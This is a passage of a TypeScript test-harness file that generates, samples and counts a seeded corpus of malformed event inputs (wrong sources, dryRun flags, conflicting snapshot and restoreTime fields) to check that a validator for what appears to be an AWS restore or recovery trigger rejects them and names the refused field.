      const minimal: Json = shape === 'scheduled' ? { source: SCHEDULED.source, 'detail-type': SCHEDULED.detailType, dryRun: true } : { source: ALARM.source, 'detail-type': ALARM.detailType, dryRun: true, detail: {} };
      out.push({ kind: 'wrong-shape-dry-run', label: `minimal ${shape} shape with dryRun: true`, apply: () => minimal, field: refusedBy });
    }
    for (const source of ['aws.rds', 'aws.health', 'aws.ec2', 'frontier.dr', 'aws.states']) {
      out.push({
        kind: 'wrong-shape-dry-run',
        label: `an event from ${source} with dryRun: true`,
        apply: (base) => setAt(setAt(base, ['source'], source), ['dryRun'], true),
        field: 'source',
      });
    }
  }
  return out;
}

/** Every bad input of the corpus, in a stable order. */
export function badInputCorpus(options: CorpusOptions): BadInput[] {
  const random = seededRandom(options.seed);
  const now = options.now.getTime();
  const corpus: BadInput[] = [];
  for (const scenario of SCENARIOS) {
    for (const shape of START_SHAPES) {
      const bases = validBases(scenario, shape, now, options.config);
      const refusedBy = shapeRefusal(scenario, shape);
      for (const mutation of mutationsOf(scenario, shape, now, options.config, random, options.randomPerKind)) {
        const base = random.pick(bases);
        // Remove what would make a second, unrelated refusal (a snapshot beside a restoreTime).
        const cleaned = mutation.field === 'restoreTime' ? setAt(base, ['snapshot'], undefined) : mutation.field === 'snapshot' ? setAt(base, ['restoreTime'], undefined) : base;
        corpus.push({
          scenario,
          shape,
          kind: mutation.kind,
          label: mutation.label,
          input: mutation.apply(cleaned),
          fields: refusedBy && refusedBy !== mutation.field ? [mutation.field, refusedBy] : [mutation.field],
        });
      }
    }
  }
  return corpus;
}

/** The valid inputs the corpus is made from (each must be accepted, or the corpus proves nothing). */
export function validInputsOfCorpus(options: Pick<CorpusOptions, 'now' | 'config'>): { scenario: Scenario; shape: StartShape; input: Json }[] {
  return SCENARIOS.flatMap((scenario) =>
    START_SHAPES.filter((shape) => shapeRefusal(scenario, shape) === null).flatMap((shape) =>
      validBases(scenario, shape, options.now.getTime(), options.config).map((input) => ({ scenario, shape, input })),
    ),
  );
}

/** Up to `perGroup` inputs of every scenario, shape and kind, chosen with the seed. */
export function sampleCorpus(corpus: readonly BadInput[], perGroup: number, seed: number): BadInput[] {
  const random = seededRandom(seed);
  const groups = new Map<string, BadInput[]>();
  for (const input of corpus) {
    const key = `${input.scenario} ${input.shape} ${input.kind}`;
    groups.set(key, [...(groups.get(key) ?? []), input]);
  }
  return [...groups.values()].flatMap((group) => {
    const pool = [...group];
    const chosen: BadInput[] = [];
    while (chosen.length < perGroup && pool.length > 0) chosen.push(pool.splice(random.int(pool.length), 1)[0]!);
    return chosen;
  });
}

/**
 * True when `message` lists `field` as a bad field: a line `  - <field>` followed by `:` (the field),
 * `.` or `[` (a path inside it) or `,` (one of several named together). A field name longer than 200
 * characters is shown cut to 197 and `...`.
 */
export function namesField(message: string, field: string): boolean {
  const forms = field.length > 200 ? [field, `${field.slice(0, 197)}...`] : [field];
  return forms.some((form) => {
    const marker = `\n  - ${form}`;
    for (let at = message.indexOf(marker); at !== -1; at = message.indexOf(marker, at + 1)) {
      if (':.[,'.includes(message[at + marker.length] ?? '')) return true;
    }
    return false;
  });
}

/** Counts by scenario (and in total), for the log. */
export function corpusCounts(corpus: readonly BadInput[]): { total: number; byScenario: Record<string, number>; byShape: Record<string, number>; byKind: Record<string, number> } {
  const count = (key: (input: BadInput) => string) => {
    const counts: Record<string, number> = {};
    for (const input of corpus) counts[key(input)] = (counts[key(input)] ?? 0) + 1;
    return counts;
  };
  return { total: corpus.length, byScenario: count((i) => i.scenario), byShape: count((i) => i.shape), byKind: count((i) => i.kind) };
}
